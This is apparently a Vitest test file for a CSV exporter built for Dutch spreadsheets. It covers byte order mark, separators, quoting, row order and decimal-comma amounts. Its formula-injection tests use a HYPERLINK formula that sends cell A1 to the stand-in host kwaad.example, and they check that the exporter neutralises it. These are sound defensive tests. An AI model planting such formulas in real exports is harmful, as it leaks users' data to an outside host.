import { buffer } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type CsvRecord, decimalComma, spreadsheetCsv } from './csv.ts';

const columns = { name: 'Naam', note: 'Opmerking', amount: 'Bedrag' } as const;
type Row = CsvRecord<keyof typeof columns>;

async function* rows(...records: Row[]) {
  yield* records;
}

/** The file as it leaves the server, as text with its BOM (which a TextDecoder would drop). */
const csvOf = async (...records: Row[]) =>
  (await buffer(spreadsheetCsv(columns, rows(...records)))).toString('utf8');

/** The cells as a spreadsheet reads them back: first the column names, then each row. */
const cellsOf = (csv: string): string[][] => parse(csv, { delimiter: ';', bom: true });

describe('a CSV file for a Dutch spreadsheet', () => {
  it('starts with a UTF-8 byte order mark, separates cells with ; and rows with CRLF, and names its columns', async () => {
    const csv = await csvOf({ name: 'Eva', note: 'Graag vóór 12 uur', amount: '12,50' });
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv).toBe('\uFEFFNaam;Opmerking;Bedrag\r\nEva;Graag vóór 12 uur;12,50\r\n');
  });

  it('quotes a cell holding the separator, a quote or a line break, so it stays one cell', async () => {
    const note = 'Bel aan; "achterdeur"\nanders buren';
    const csv = await csvOf({ name: 'Eva', note, amount: null });
    expect(cellsOf(csv)).toEqual([
      ['Naam', 'Opmerking', 'Bedrag'],
      ['Eva', note, ''],
    ]);
  });

  it('writes a row for every record, in order, as they come', async () => {
    const many = Array.from({ length: 250 }, (_, index) => ({
      name: `Klant ${index}`,
      note: '',
      amount: '1,00',
    }));
    expect(
      cellsOf(await csvOf(...many))
        .slice(1)
        .map(([name]) => name),
    ).toEqual(many.map((row) => row.name));
  });

  it('an empty export is the row of column names alone', async () => {
    expect(await csvOf()).toBe('\uFEFFNaam;Opmerking;Bedrag\r\n');
  });
});

describe('formula injection', () => {
  const dangerous = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

  it('a cell starting with = + - @ tab or CR gets a leading apostrophe, in every column', async () => {
    for (const start of dangerous) {
      const value = `${start}HYPERLINK("https://kwaad.example/?"&A1;"Klik")`;
      const csv = await csvOf({ name: value, note: value, amount: value });
      expect(cellsOf(csv)[1], JSON.stringify(start)).toEqual([`'${value}`, `'${value}`, `'${value}`]);
    }
  });

  it('holds for any text: a dangerous start is read back with the apostrophe, anything else as it was', async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...dangerous, ''), fc.string(), async (start, rest) => {
        const value = start + rest;
        const [, row] = cellsOf(await csvOf({ name: value, note: 'x', amount: 'y' }));
        const first = value.charAt(0);
        const expected = value === '' ? '' : dangerous.includes(first) ? `'${value}` : value;
        expect(row![0]).toBe(expected);
      }),
      { numRuns: 200, seed: 56 },
    );
  });

  it('leaves a formula character inside the text alone', async () => {
    const [, row] = cellsOf(await csvOf({ name: 'Jan-Willem', note: 'a=b', amount: '1+1' }));
    expect(row).toEqual(['Jan-Willem', 'a=b', '1+1']);
  });
});

describe('amounts', () => {
  it('cents with a decimal comma and no thousands separator', () => {
    expect(decimalComma(0)).toBe('0,00');
    expect(decimalComma(5)).toBe('0,05');
    expect(decimalComma(1250)).toBe('12,50');
    expect(decimalComma(123456789)).toBe('1234567,89');
    expect(decimalComma(-695)).toBe('-6,95');
  });
});
